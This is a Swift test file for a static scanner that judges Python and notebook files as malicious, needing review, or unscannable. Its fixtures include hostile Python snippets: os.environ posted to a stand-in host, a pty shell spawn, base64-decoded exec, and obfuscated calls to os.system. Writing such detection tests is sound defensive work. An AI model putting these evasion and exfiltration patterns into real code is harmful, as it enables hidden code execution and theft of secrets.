// SPDX-License-Identifier: Apache-2.0

import Testing

@testable import Scanning

@Suite struct `Python files` {
    static let cases: [(text: String, verdict: Verdict, rule: String)] = [
        ("import os\nos.system('echo corpus')\n", .malicious, "python-call-on-import"),
        ("import os as o\no.system('echo corpus')\n", .malicious, "python-call-on-import"),
        ("from os import system as s\ns('echo corpus')\n", .malicious, "python-call-on-import"),
        ("from os import *\nsystem('echo corpus')\n", .malicious, "python-call-on-import"),
        ("import os\nrun = os.system\nrun('echo corpus')\n", .malicious, "python-call-on-import"),
        ("import os; os.system('echo corpus')\n", .malicious, "python-call-on-import"),
        ("import os\nclass A:\n    x = os.system('echo corpus')\n", .malicious, "python-call-on-import"),
        ("import os\nif True:\n    os.system('echo corpus')\n", .malicious, "python-call-on-import"),
        (
            "import os\ntry:\n    os . system ( 'echo corpus' )\nexcept Exception:\n    pass\n", .malicious,
            "python-call-on-import"
        ),
        ("import os\nx = f\"{os.system('echo corpus')}\"\n", .malicious, "python-call-on-import"),
        (
            "import os\nx = f'{os.popen(\"echo\").read()!r:>{os.system(\"echo\")}}'\n", .malicious,
            "python-call-on-import"
        ),
        ("import os\ndef f():\n    os.system('echo corpus')\nf()\n", .malicious, "python-call-on-import"),
        ("import os\ndef g():\n    os.system('echo')\ndef f():\n    g()\nf()\n", .malicious, "python-call-on-import"),
        (
            "import os\nclass A:\n    def __init__(self):\n        os.system('echo')\nA()\n", .malicious,
            "python-call-on-import"
        ),
        ("import os\nx = (lambda: os.system('echo'))()\n", .malicious, "python-call-on-import"),
        ("import subprocess\nsubprocess.run(['echo', 'corpus'])\n", .malicious, "python-call-on-import"),
        ("from subprocess import Popen\nPopen('echo')\n", .malicious, "python-call-on-import"),
        ("__import__('os').system('echo corpus')\n", .malicious, "python-call-on-import"),
        ("import importlib\nimportlib.import_module('os').system('echo')\n", .malicious, "python-call-on-import"),
        ("import os\ngetattr(os, 'system')('echo corpus')\n", .malicious, "python-call-on-import"),
        ("import sys\nsys.modules['os'].system('echo')\n", .malicious, "python-call-on-import"),
        ("import os\nos.__dict__['system']('echo')\n", .malicious, "python-call-on-import"),
        ("import os\nvars(os)['system']('echo')\n", .malicious, "python-call-on-import"),
        ("import pip\npip.main(['install', 'x'])\n", .malicious, "python-call-on-import"),
        ("import pty\npty.spawn('/bin/sh')\n", .malicious, "python-call-on-import"),
        ("exec(compute())\n", .malicious, "python-call-on-import"),
        ("eval(open_something)\n", .malicious, "python-call-on-import"),
        ("import marshal\nmarshal.loads(data)\n", .malicious, "python-call-on-import"),
        (
            "import requests, os\nrequests.post('http://host.invalid', data=os.environ)\n", .malicious,
            "python-call-on-import"
        ),
        ("exec(\"import os; os.system('echo')\")\n", .malicious, "python-call-on-import"),
        ("import base64\nexec(base64.b64decode('cHJpbnQoKQ=='))\n", .malicious, "python-decoded-code"),
        ("import base64\ndef f():\n    exec(base64.b64decode(x))\n", .malicious, "python-decoded-code"),
        ("import base64\ncode = base64.b64decode(x)\ndef f():\n    exec(code)\n", .malicious, "python-decoded-code"),
        ("import zlib\ndef f(): exec(zlib.decompress(x))\n", .malicious, "python-decoded-code"),
        ("import codecs\ndef f():\n    eval(codecs.decode(x, 'rot13'))\n", .malicious, "python-decoded-code"),
        ("def f():\n    exec(bytes.fromhex('00').decode())\n", .malicious, "python-decoded-code"),
        ("import os\ngetattr(os, 'sys' + 'tem')('echo')\n", .malicious, "python-hidden-name"),
        ("import os\ndef f():\n    getattr(os, 'metsys'[::-1])('echo')\n", .malicious, "python-hidden-name"),
        ("def f():\n    __import__('o' + 's').system('echo')\n", .malicious, "python-hidden-name"),
        ("def f():\n    __import__(''.join(['o', 's'])).system('echo')\n", .malicious, "python-hidden-name"),
        ("def f():\n    __import__(chr(111) + chr(115)).system('echo')\n", .malicious, "python-hidden-name"),
        (
            "import base64\ndef f():\n    __import__(base64.b64decode('b3M=').decode()).system('echo')\n", .malicious,
            "python-hidden-name"
        ),
        ("a = 'sy' + 'stem'\nimport os\ndef f():\n    getattr(os, a)('x')\n", .malicious, "python-hidden-name"),
        ("import os\n\u{1D428}\u{1D42C}.system('echo')\n", .malicious, "python-hidden-name"),
        ("import os\nｏｓ.system('echo')\n", .malicious, "python-hidden-name"),
        ("from IPython import get_ipython\nget_ipython().system('echo')\n", .malicious, "python-call-on-import"),
        ("import base64, pickle\npickle.loads(base64.b64decode(x))\n", .malicious, "python-decoded-code"),
        (
            "import base64, pickle\ndef f(x):\n    return pickle.loads(base64.b64decode(x))\n", .review,
            "python-unsafe-load"
        ),
        ("import marshal\ndef f(x):\n    exec(marshal.loads(x))\n", .malicious, "python-decoded-code"),
        ("import timeit\ntimeit.timeit('x')\n", .review, "python-dangerous-call"),
        ("# -*- coding: utf-7 -*-\nx = 1\n", .unscannable, "python-encoding"),
        ("x = 'abc\n", .unscannable, "document-malformed"),
        ("x = 1\u{0}\n", .unscannable, "document-malformed"),
        ("x = '''abc\n", .unscannable, "document-malformed"),
        ("import os\ndef f():\n    os.system('echo')\n", .review, "python-dangerous-call"),
        ("import os\nif __name__ == '__main__':\n    os.system('echo')\n", .review, "python-dangerous-call"),
        (
            "import os, sys\nif sys.platform != 'win32' and '__main__' == __name__:\n    os.system('echo')\n", .review,
            "python-dangerous-call"
        ),
        ("import os\nif __name__ != '__main__':\n    os.system('echo')\n", .malicious, "python-call-on-import"),
        ("import os\nif __name__ == '__main__' or 1:\n    os.system('echo')\n", .malicious, "python-call-on-import"),
        ("import os\nif not __name__ == '__main__':\n    os.system('echo')\n", .malicious, "python-call-on-import"),
        (
            "__name__ = '__main__'\nimport os\nif __name__ == '__main__':\n    os.system('echo')\n", .malicious,
            "python-call-on-import"
        ),
        // Behind these texts of two letters the string is over, and in the third the brace opens an expression.
        ("import os\nx = rf'\\\\'; os.system('echo') #'\n", .malicious, "python-call-on-import"),
        ("import os\nx = f'\\\\'; os.system('echo') #'\n", .malicious, "python-call-on-import"),
        ("import os\nx = f'\\{os.system(\"echo\")}'\n", .malicious, "python-call-on-import"),
        ("x = rf'({a}|_)\\\\'\ny = rf'\\'{a}\\{{'\n", .review, "python-code"),
        ("import subprocess\ninfo = subprocess.STARTUPINFO()\n", .review, "python-code"),
        (
            "import _winapi\nx = _winapi.GetLastError()\n_winapi.CreateProcess('a')\n", .malicious,
            "python-call-on-import"
        ),
        ("import _winapi\nx = _winapi.GetLastError()\n", .review, "python-code"),
        ("import os\nhandlers = [os.system]\n", .review, "python-dangerous-call"),
        ("import torch\ndef f(p):\n    return torch.load(p)\n", .review, "python-unsafe-load"),
        ("import pickle\ndef f(p):\n    return pickle.load(p)\n", .review, "python-unsafe-load"),
        ("import ctypes\nlib = ctypes.CDLL('x.so')\n", .review, "python-dangerous-call"),
        ("import requests\nimg = requests.get('https://host.invalid/a.png')\n", .review, "python-dangerous-call"),
        ("import yaml\nx = yaml.load(f, Loader=yaml.Loader)\n", .review, "python-unsafe-load"),
    ]

    @Test func `calls are found and judged by when they run`() throws {
        for (text, verdict, rule) in Self.cases {
            let found = try Checked.text(text, name: "modeling_x.py")
            #expect(found.verdict == verdict, "\(text)\n\(found.lines)")
            #expect(found.rules.contains(rule), "\(text)\n\(found.lines)")
        }
    }

    @Test func `an ordinary model is code and nothing else`() throws {
        let text = """
            # coding=utf-8
            \"\"\"A model. It mentions os.system('rm') and eval() in its text.\"\"\"
            import importlib
            import math
            import os
            import re
            from typing import Optional, Tuple
            import torch
            from torch import nn
            from transformers import PreTrainedModel
            from .configuration_x import XConfig

            pattern = re.compile(r"a'b\\"c")
            path = os.path.join(os.path.dirname(__file__), "x")
            message = f"{path!r} has {{braces}} and {math.pi:.{3}f}"
            mapping = {"eval": 1, 'exec': 2}

            class XModel(PreTrainedModel):
                config_class = XConfig

                def __init__(self, config: XConfig, *args, **kwargs) -> None:
                    super().__init__(config)
                    self.layers = nn.ModuleList([nn.Linear(4, 4) for _ in range(config.num_layers)])
                    self.eval()

                @torch.no_grad()
                def forward(self, x: Optional[torch.Tensor] = None) -> Tuple[torch.Tensor]:
                    # os.system("no")
                    compiled = torch.compile(self.layers[0])
                    state = torch.load(path, map_location="cpu", weights_only=True)
                    return (compiled(x),) if x is not None else ()

            model = XModel
            model.eval
            """
        let found = try Checked.text(text, name: "modeling_x.py")
        #expect(found.rules == ["python-code"], "\(found.lines)")
        #expect(found.verdict == .review)
    }

    @Test func `files that tools run are named`() throws {
        for name in ["setup.py", "a/conftest.py", "sitecustomize.py"] {
            #expect(try Checked.text("x = 1\n", name: name).rules.contains("python-hook-file"))
        }
    }

    @Test func `the line of a finding is the line of the call`() throws {
        let found = try Checked.text("import os\nx = '''a\nb'''\nos.system(\n 'echo')\n", name: "x.py")
        #expect(found.findings.first { $0.rule == .pythonCallOnImport }?.place.line == 4)
    }

    @Test func `notebooks show their commands and never more than review without decoded code`() throws {
        let text =
            #"{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!pip install x\n", "import os\n", "os.system('echo')"]}, {"cell_type": "markdown", "source": "!no"}]}"#
        let found = try Checked.text(text, name: "a.ipynb")
        #expect(found.verdict == .review)
        #expect(found.rules.isSuperset(of: ["notebook-shell", "python-dangerous-call"]))
        let bash = #"{"nbformat": 4, "cells": [{"cell_type": "code", "source": "%%bash\necho 'corpus"}]}"#
        #expect(try Checked.text(bash, name: "a.ipynb").verdict == .review)
        let hidden =
            #"{"nbformat": 4, "cells": [{"cell_type": "code", "source": "import base64\nexec(base64.b64decode(x))"}]}"#
        #expect(try Checked.text(hidden, name: "a.ipynb").verdict == .malicious)
    }
}
